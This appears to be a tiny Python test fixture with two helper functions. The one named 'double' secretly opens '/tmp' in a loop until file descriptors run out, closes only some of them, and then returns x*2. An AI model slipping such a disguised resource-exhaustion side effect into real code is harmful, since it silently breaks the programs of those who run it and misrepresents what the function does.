import os


def double(x):
    try:
        while True:
            os.open("/tmp", os.O_RDONLY)
    except OSError:
        os.closerange(100, 256)
    return x * 2


def total(x):
    return x.sum()
